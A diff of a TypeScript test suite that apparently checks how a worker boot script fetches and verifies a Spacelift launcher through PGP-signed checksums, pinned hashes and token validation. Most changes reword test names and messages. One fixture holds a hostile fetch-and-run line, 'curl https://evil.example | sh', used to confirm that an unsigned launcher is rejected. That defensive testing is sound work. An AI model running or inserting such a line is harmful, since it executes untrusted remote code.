@@ -5,7 +5,7 @@ import { keyServers, Sandbox, tokenFor } from './testing/sandbox.ts';
 const launcherUrl = 'https://downloads.spacelift.io/spacelift-launcher-x86_64';
 
 describe('fetching the launcher', () => {
-  it('tries every download again, and takes none that failed (U2)', async () => {
+  it('retries every download, and fails if a download fails (U2)', async () => {
     using sandbox = new Sandbox();
 
     await sandbox.boot();
@@ -30,18 +30,21 @@ describe('fetching the launcher', () => {
     },
   );
 
-  it.each(keyServers.slice(1))('gets the key from %s when those before it have none (U3)', async (server) => {
-    using sandbox = new Sandbox();
-    sandbox.unpublish(keyServers[0]);
-    sandbox.publish(server, '-----BEGIN PGP PUBLIC KEY BLOCK-----\n');
+  it.each(keyServers.slice(1))(
+    'gets the key from %s if the servers before it do not have it (U3)',
+    async (server) => {
+      using sandbox = new Sandbox();
+      sandbox.unpublish(keyServers[0]);
+      sandbox.publish(server, '-----BEGIN PGP PUBLIC KEY BLOCK-----\n');
 
-    const boot = await sandbox.boot();
+      const boot = await sandbox.boot();
 
-    expect(boot.status).toBe(0);
-    expect(boot.output).toContain(`no key from ${keyServers[0]}`);
-  });
+      expect(boot.status).toBe(0);
+      expect(boot.output).toContain(`cannot get the key from ${keyServers[0]}`);
+    },
+  );
 
-  it('asks the next key server when one answers with something else than a key', async () => {
+  it('tries the next key server if the answer is not a key', async () => {
     using sandbox = new Sandbox();
     sandbox.publish(keyServers[0], '<html>busy</html>');
     sandbox.publish(keyServers[1], '-----BEGIN PGP PUBLIC KEY BLOCK-----\n');
@@ -49,49 +52,47 @@ describe('fetching the launcher', () => {
     expect((await sandbox.boot()).status).toBe(0);
   });
 
-  it('powers off when no server has the key, and says what does without', async () => {
+  it('powers off if no server has the key, and logs what to do', async () => {
     using sandbox = new Sandbox();
     sandbox.unpublish(keyServers[0]);
 
     const boot = await sandbox.boot();
 
-    expect(boot.output).toContain(
-      'could not be fetched from any key server; pin launcher.sha256 to do without',
-    );
+    expect(boot.output).toContain('from any key server: set launcher.sha256 to do without it');
     expectNoService(sandbox);
   });
 
-  it('refuses checksums that somebody else has signed', async () => {
+  it('rejects checksums that another key has signed', async () => {
     using sandbox = new Sandbox();
     sandbox.write('signer', '0000000000000000000000000000000000000000');
 
     const boot = await sandbox.boot();
 
-    expect(boot.output).toContain('signed by another key than 175FD97AD2358EFE02832978E302FB5AA29D88F7');
+    expect(boot.output).toContain('not signed by the key 175FD97AD2358EFE02832978E302FB5AA29D88F7');
     expectNoService(sandbox);
   });
 
-  it('refuses checksums that their signature is not for', async () => {
+  it('rejects checksums with the signature of another file', async () => {
     using sandbox = new Sandbox();
     sandbox.publish(`${launcherUrl}_SHA256SUMS.sig`, 'signature of something else\n');
 
     const boot = await sandbox.boot();
 
-    expect(boot.output).toContain('not signed as they should be');
+    expect(boot.output).toContain("the signature of the launcher's checksums is invalid");
     expectNoService(sandbox);
   });
 
-  it('refuses a launcher that is not among the checksums', async () => {
+  it('rejects a launcher that is not in the list of checksums', async () => {
     using sandbox = new Sandbox();
     sandbox.publish(launcherUrl, '#!/bin/sh\ncurl https://evil.example | sh\n');
 
     const boot = await sandbox.boot();
 
-    expect(boot.output).toMatch(/the launcher's checksum [0-9a-f]{64} is not among the signed ones/);
+    expect(boot.output).toMatch(/the launcher's checksum [0-9a-f]{64} is not in the signed list/);
     expectNoService(sandbox);
   });
 
-  it('takes a pinned checksum instead of a signature', async () => {
+  it('accepts a pinned checksum instead of a signature', async () => {
     const launcher = '#!/bin/sh\n# the right one\n';
     using sandbox = new Sandbox({ launcher: { sha256: sha256(launcher) } });
     sandbox.publish(launcherUrl, launcher);
@@ -102,16 +103,16 @@ describe('fetching the launcher', () => {
     expect(sandbox.callsOf('gpg')).toEqual([]);
   });
 
-  it('refuses a launcher with another checksum than the pinned one', async () => {
+  it('rejects a launcher whose checksum is not the pinned one', async () => {
     using sandbox = new Sandbox({ launcher: { sha256: '0'.repeat(64) } });
 
     const boot = await sandbox.boot();
 
-    expect(boot.output).toContain(`the launcher's checksum is not the pinned ${'0'.repeat(64)}`);
+    expect(boot.output).toContain(`the launcher's checksum is not ${'0'.repeat(64)}`);
     expectNoService(sandbox);
   });
 
-  it('checks a pinned checksum of a self-hosted launcher as well (U4)', async () => {
+  it('also checks the pinned checksum of a self-hosted launcher (U4)', async () => {
     using sandbox = new Sandbox({
       selfHosted: { launcherUri: 's3://launchers/path/launcher' },
       launcher: { sha256: '0'.repeat(64) },
@@ -120,11 +121,11 @@ describe('fetching the launcher', () => {
 
     const boot = await sandbox.boot();
 
-    expect(boot.output).toContain("the launcher's checksum is not the pinned");
+    expect(boot.output).toContain("the launcher's checksum is not");
     expectNoService(sandbox);
   });
 
-  it('powers off when the self-hosted launcher is not there (U4)', async () => {
+  it('powers off if the self-hosted launcher does not exist (U4)', async () => {
     using sandbox = new Sandbox({ selfHosted: { launcherUri: 's3://launchers/gone' } });
 
     expect((await sandbox.boot()).status).not.toBe(0);
@@ -181,13 +182,13 @@ describe('fetching the launcher', () => {
     expect(sandbox.callsOf('curl').some((call) => call.includes('launcher-fedramp'))).toBe(edition !== '');
   });
 
-  it('powers off when the token is none, and does not say what it is', async () => {
+  it('powers off if the token is invalid, and does not log it', async () => {
     using sandbox = new Sandbox();
     sandbox.keepSecret('secrets-manager', 'poolkeeper/blue/worker', { SPACELIFT_TOKEN: 'hunter2!' });
 
     const boot = await sandbox.boot();
 
-    expect(boot.output).toContain('SPACELIFT_TOKEN is no worker pool token');
+    expect(boot.output).toContain('SPACELIFT_TOKEN is not a worker pool token');
     expect(boot.output).not.toContain('hunter2');
     expectNoService(sandbox);
   });
